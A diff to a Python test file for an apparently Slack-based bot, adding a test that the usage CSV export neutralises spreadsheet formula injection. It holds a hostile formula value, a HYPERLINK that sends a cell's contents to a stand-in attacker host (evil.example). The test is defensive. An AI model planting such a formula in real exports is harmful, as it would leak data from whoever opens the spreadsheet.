@@ -9,10 +9,13 @@ import re
 from datetime import UTC, datetime
 from typing import Any
 
+import aiohttp
 import redis.asyncio as aioredis
 
 from bot.identity import Workspace
 from bot.keys import AppKeys
+from bot.service import Service
+from bot.settings import Settings
 from bot.thread.render import FEEDBACK_ACTION_ID
 from bot.workspace import USAGE
 from tests.bot.conftest import SECRET, App
@@ -188,3 +191,29 @@ async def test_the_counters_expire_after_the_retention(
         Workspace("T0001"), datetime.now(UTC).strftime("%Y-%m-%d"), "user")
     ttl = await redis_client.ttl(key)
     assert 400 * 86_400 < ttl <= 401 * 86_400
+
+
+FORMULA_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+
+
+async def test_the_export_opens_no_formula_and_keeps_numbers_numbers(
+    settings: Settings, fake_slack: FakeSlack, fake_openai: FakeOpenAI
+) -> None:
+    """A name the export holds (here the model's, as the operator spelled it) that starts like a formula is text in
+    a spreadsheet: quoted, after a ``'``. Counts and dollars are bare numbers. (User and channel ids are Slack's.)"""
+    hostile = settings.model_copy(update={"openai_model": FORMULA_MODEL})
+    async with Service(hostile, "web") as service, aiohttp.ClientSession() as http:
+        app = App(service, http)
+        fake_openai.queue(text("one"))
+        await ask(app, fake_slack, "hi", user="U1")
+        fake_slack.users[ADMIN] = {"is_admin": True}
+        await limits(app, "usage export today by model")
+        await fake_slack.wait_for("files.completeUploadExternal")
+    [upload] = [f for f in fake_slack.uploads.values() if f.shared_at]
+    header, line = upload.text.splitlines()
+    assert line.startswith(f'"{datetime.now(UTC).date()}",') and header.startswith('"first_day","last_day"')
+    cells = next(csv.reader([line]))
+    quoted = FORMULA_MODEL.replace('"', '""')
+    assert cells[3] == f"'{FORMULA_MODEL}" and f',"\'{quoted}",' in line
+    runs, spend = next(csv.reader([line], quoting=csv.QUOTE_NONNUMERIC))[4:8:3]
+    assert runs == 1 and isinstance(spend, float) and spend > 0  # written bare: a spreadsheet reads numbers
